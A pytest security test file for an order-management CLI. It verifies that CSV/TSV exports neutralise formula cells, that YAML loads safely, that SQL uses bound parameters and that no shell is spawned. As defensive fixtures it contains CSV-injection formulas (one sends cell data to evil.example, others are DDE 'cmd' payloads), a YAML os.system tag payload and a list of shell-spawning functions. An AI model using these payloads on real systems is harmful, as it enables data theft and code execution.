"""Security: formula cells, file modes, safe YAML, bound SQL, no shell, and -o guards.

- Every listing and report command, as csv and tsv, writes hostile text
  (``=HYPERLINK(...)``, ``+1``, ``-2``, ``@SUM``) so no spreadsheet runs it.
- A new database is readable by its owner only.
- The config is read with yaml.safe_load (a python tag is refused; see also
  test_hostile_config.py).
- SQL text is never built from values by f-string or %: only bound parameters.
- No shell is ever started, let alone with user data.
- ``-o`` can never overwrite the database or its -wal/-shm/-journal companions.
"""

from __future__ import annotations

import ast
import csv
import io
import stat
from decimal import Decimal, InvalidOperation
from pathlib import Path
from typing import Any

import pytest
import typer
import typer.main
from runners import sqlite_only

from oms_cli.cli.app import app
from oms_cli.errors import ExitCode

PACKAGE = Path(__file__).resolve().parents[2] / "oms_cli"
HOSTILE = {
    "link": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
FORMULA_START = tuple("=+-@\t\r\0")

ORDERS = (
    "Name,Email,Financial Status,Currency,Subtotal,Total,Created at,Lineitem quantity,"
    "Lineitem name,Lineitem price,Lineitem sku,Shipping Name,Shipping Address1,Shipping City,"
    "Shipping Zip,Shipping Country,Tags,Notes\n"
    '"=1+1",a@example.com,paid,USD,10.00,10.00,2026-11-02 10:00:00 +0000,2,'
    '"=HYPERLINK(""http://evil.example"",""x"")",5.00,@SUM(A1:A9),"-2+3","+1 Main St",'
    '"@City",97201,US,"=tag","-note"\n'
    '"+2",b@example.com,paid,USD,10.00,10.00,2026-11-03 10:00:00 +0000,1,'
    '"@SUM(1)",5.00,-2,"=cmd|\' /C calc\'!A0",1 Main St,Portland,97201,US,,\n'
    '"-3",c@example.com,paid,USD,10.00,10.00,2026-11-04 10:00:00 +0000,1,'
    'Mug,5.00,@SUM(A1:A9),Ann,1 Main St,Portland,97201,US,,\n'
    '"@4",,paid,USD,x,10.00,2026-11-05 10:00:00 +0000,1,Mug,5.00,=BAD,Ann,1 Main St,'
    'Portland,97201,US,,\n'
)


@pytest.fixture
def hostile_shop(cli, tmp_path: Path) -> dict[str, str]:
    """A shop whose names, skus, order numbers and addresses are spreadsheet formulas."""
    for args in (
        ["location", "add", "main", "--name", HOSTILE["link"], "--country", "US"],
        ["product", "add", "--name", HOSTILE["plus"], "--price", "5", "--cost", "2",
         "--reorder-point", "50", "--", "@SUM(A1:A9)"],
        ["product", "add", "--name", HOSTILE["at"], "--price", "5", "--", "-2"],
        ["product", "alias", "add", "--", "shopify", HOSTILE["minus"], "-2"],
        ["stock", "receive", "-l", "main", "--", "@SUM(A1:A9)", "20"],
        ["stock", "receive", "-l", "main", "--", "-2", "20"],
    ):
        result = cli(*args)
        assert result.exit_code == 0, (args, result.stderr)
    orders = tmp_path / "=orders.csv"
    orders.write_text(ORDERS, encoding="utf-8")
    assert cli("import", str(orders)).exit_code == 3  # one record rejected, kept with its text
    assert cli("allocate", "shopify:=1+1", "shopify:+2").exit_code == 0
    assert cli("ship", "shopify:+2", "--tracking", HOSTILE["at"]).exit_code == 0
    assert cli("return", "shopify:+2", "--line", "-2=1", "--reason", HOSTILE["minus"]
               ).exit_code == 0
    assert cli("order", "hold", "shopify:-3", "--reason", HOSTILE["link"]).exit_code == 0
    return {"order": "shopify:=1+1", "sku": "@SUM(A1:A9)", "file": str(orders)}


def listing_commands(shop: dict[str, str]) -> list[list[str]]:
    """Every command that lists rows, with arguments that make it list the hostile shop."""
    return [
        ["picklist"], ["allocate", "--dry-run"], ["db", "check"], ["product", "list"],
        ["product", "show", "--", shop["sku"]], ["product", "alias", "list"],
        ["location", "list"], ["stock", "show"], ["stock", "history", "--", shop["sku"]],
        ["import", "files", "--dry-run", shop["file"]], ["import", "history"],
        ["import", "errors", "1"], ["order", "list"], ["order", "show", shop["order"]],
        *(["--today", "2026-11-20", "report", "status", "--section", section]
          for section in ("orders", "late", "holds", "reorder")),
        *(["--today", "2026-11-20", "report", name] for name in
          ("sales", "products", "inventory", "customers", "fulfillment", "returns")),
    ]


def _command_tree() -> list[tuple[str, set[str]]]:
    root = typer.main.get_command(app)
    context = typer.Context(root)
    found: list[tuple[str, set[str]]] = []

    def walk(command: Any, path: list[str]) -> None:
        if hasattr(command, "list_commands"):
            for name in command.list_commands(context):
                walk(command.get_command(context, name), [*path, name])
        else:
            found.append((" ".join(path), {param.name or "" for param in command.params}))

    walk(root, [])
    return found


def test_every_listing_command_is_in_the_formula_test() -> None:
    listed = {" ".join(arg for arg in args if not arg.startswith("-") and arg[:1].isalpha())
              for args in listing_commands({"sku": "x", "order": "x", "file": "x"})}
    for name, params in _command_tree():
        if "fmt" in params:
            assert any(entry.startswith(name) for entry in listed), name


def cells(text: str, fmt: str) -> list[str]:
    if fmt == "csv":
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [cell for line in text.splitlines() for cell in line.split("\t")]


def is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_every_listing_neutralises_formula_cells(cli, hostile_shop: dict[str, str],
                                                 fmt: str) -> None:
    guarded = 0
    for args in listing_commands(hostile_shop):
        end = args.index("--") if "--" in args else len(args)
        result = cli(*args[:end], "-f", fmt, *args[end:])
        assert result.exit_code in (ExitCode.OK, ExitCode.ATTENTION, ExitCode.FAILED), (
            args, result.stderr)
        assert "internal error" not in result.stderr, (args, result.stderr)
        for cell in cells(result.stdout, fmt):
            assert not cell.startswith(FORMULA_START) or is_number(cell), (args, cell)
            guarded += cell.startswith("'") and cell[1:2] in "=+-@\t\r"
    assert guarded >= 20  # the hostile text did reach the listings, guarded


def test_raw_turns_the_guard_off(cli, hostile_shop: dict[str, str]) -> None:
    result = cli("location", "list", "-f", "csv", "--raw")
    assert [row[1] for row in csv.reader(io.StringIO(result.stdout))][1] == HOSTILE["link"]


# Files ---------------------------------------------------------------------------------------

def test_a_new_database_is_readable_by_its_owner_only(cli, tmp_path: Path) -> None:
    path = tmp_path / "new" / "oms.db"
    assert cli("init", db=path).exit_code == 0
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    for companion in path.parent.glob("oms.db-*"):
        assert stat.S_IMODE(companion.stat().st_mode) & 0o077 == 0, companion


@pytest.mark.parametrize("suffix", ["", "-wal", "-shm", "-journal"])
@pytest.mark.parametrize("command", [["order", "list", "-f", "csv"],
                                     ["report", "sales", "-f", "csv"], ["db", "check", "-f", "csv"],
                                     ["export", "availability", "--channel", "shopify"]])
@sqlite_only("guards the database file and its companions")
def test_output_onto_the_database_or_its_companions_is_refused(
        cli, hostile_shop: dict[str, str], db_path: Path, suffix: str,
        command: list[str]) -> None:
    target = Path(f"{db_path}{suffix}")
    before = target.read_bytes() if target.exists() else None
    result = cli(*command, "-o", str(target))
    assert result.exit_code == ExitCode.FAILED, result.stderr
    assert "refusing to write over" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert (target.read_bytes() if target.exists() else None) == before


@sqlite_only("guards the database file")
def test_output_onto_the_database_through_a_symlink_or_dots_is_refused(
        cli, db_path: Path, tmp_path: Path) -> None:
    link = tmp_path / "innocent.csv"
    link.symlink_to(db_path)
    before = db_path.read_bytes()
    for target in (link, db_path.parent / "x" / ".." / db_path.name):
        result = cli("order", "list", "-f", "csv", "-o", str(target))
        assert result.exit_code == ExitCode.FAILED and "refusing" in result.stderr
    assert db_path.read_bytes() == before


@sqlite_only("guards the database file")
def test_rejects_written_with_o_never_overwrite_the_database(cli, hostile_shop,
                                                              db_path: Path) -> None:
    before = db_path.read_bytes()
    result = cli("import", "errors", "1", "-o", str(db_path))
    assert result.exit_code == ExitCode.FAILED
    assert db_path.read_bytes() == before


def test_a_config_path_is_resolved_without_expanding_variables(cli, tmp_path: Path,
                                                                monkeypatch) -> None:
    monkeypatch.setenv("EVIL", str(tmp_path))
    (tmp_path / "oms.yaml").write_text("currency: EUR\n", encoding="utf-8")
    result = cli("--config", "$EVIL/oms.yaml", "config", "path", config=True)
    assert result.exit_code == ExitCode.CONFIG  # taken literally: no such file


# Code ----------------------------------------------------------------------------------------

def python_files() -> list[Path]:
    return sorted(PACKAGE.rglob("*.py"))


def _calls(tree: ast.AST) -> list[ast.Call]:
    return [node for node in ast.walk(tree) if isinstance(node, ast.Call)]


def _name(call: ast.Call) -> str:
    func = call.func
    return func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")


SQL_CALLS = {"text", "execute", "exec_driver_sql", "executescript", "executemany"}
# Formatted SQL that was reviewed: what it splices in is oms's own, never a value from outside.
REVIEWED_SQL = {
    ("store/schema.py", frozenset({"VERSION_TABLE"})),  # a constant table name
    ("store/engine.py", frozenset({"int", "busy_timeout"})),  # an int from validated config
    ("store/engine.py", frozenset({"timeout_ms"})),  # an int computed from the config
    ("store/engine.py", frozenset({"WRITER_LOCK_KEY"})),  # a constant
    ("store/engine.py", frozenset({"timeout_ms", "WRITER_LOCK_KEY"})),  # both, in one call
    ("store/engine.py", frozenset({"STATISTICS_SAMPLE"})),  # a constant
    ("store/engine.py", frozenset({"int", "waited"})),  # an int SQLite itself gave back
    ("reports/common.py", frozenset({"join", "name", "rows"})),  # :placeholders, bound after
}


def _formatted(node: ast.AST) -> ast.AST | None:
    """An f-string, % or .format() building the first argument, else None."""
    if isinstance(node, ast.JoinedStr):
        return node
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod | ast.Add):
        return node
    if isinstance(node, ast.Call) and _name(node) == "format":
        return node
    return None


def test_sql_text_is_never_formatted_from_values() -> None:
    offenders = []
    for path in python_files():
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for call in _calls(tree):
            if _name(call) not in SQL_CALLS or not call.args:
                continue
            built = _formatted(call.args[0])
            if built is None:
                continue
            names = {node.id for node in ast.walk(built) if isinstance(node, ast.Name)}
            names |= {node.attr for node in ast.walk(built) if isinstance(node, ast.Attribute)}
            if (str(path.relative_to(PACKAGE)), frozenset(names)) not in REVIEWED_SQL:
                offenders.append(f"{path.relative_to(PACKAGE)}:{call.lineno}: "
                                 f"{ast.unparse(built)[:80]} (bind the values, or review it "
                                 "and add it to REVIEWED_SQL)")
    assert offenders == []


def test_no_shell_is_ever_started() -> None:
    offenders = []
    for path in python_files():
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for call in _calls(tree):
            name = _name(call)
            if name in ("system", "popen", "getoutput", "getstatusoutput", "spawnl", "execl"):
                offenders.append(f"{path.relative_to(PACKAGE)}:{call.lineno}: {name}")
            for keyword in call.keywords:
                if keyword.arg == "shell" and not (isinstance(keyword.value, ast.Constant)
                                                   and keyword.value.value is False):
                    offenders.append(f"{path.relative_to(PACKAGE)}:{call.lineno}: shell=")
    assert offenders == []


def test_yaml_is_only_ever_loaded_safely() -> None:
    offenders = []
    for path in python_files():
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for call in _calls(tree):
            name = _name(call)
            if name in ("load", "load_all", "full_load", "unsafe_load") and isinstance(
                    call.func, ast.Attribute) and getattr(call.func.value, "id", "") == "yaml":
                offenders.append(f"{path.relative_to(PACKAGE)}:{call.lineno}: yaml.{name}")
            if name in ("compose", "load") and any(
                    keyword.arg == "Loader" and getattr(keyword.value, "attr", "") != "SafeLoader"
                    for keyword in call.keywords):
                offenders.append(f"{path.relative_to(PACKAGE)}:{call.lineno}: Loader")
    assert offenders == []


def test_a_python_tag_in_the_config_is_refused(cli, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    config = tmp_path / "oms.yaml"
    config.write_text(f"currency: !!python/object/apply:os.system ['touch {marker}']\n",
                      encoding="utf-8")
    result = cli("--config", str(config), "config", "check", config=True)
    assert result.exit_code == ExitCode.CONFIG
    assert not marker.exists()
    assert "Traceback" not in result.stderr
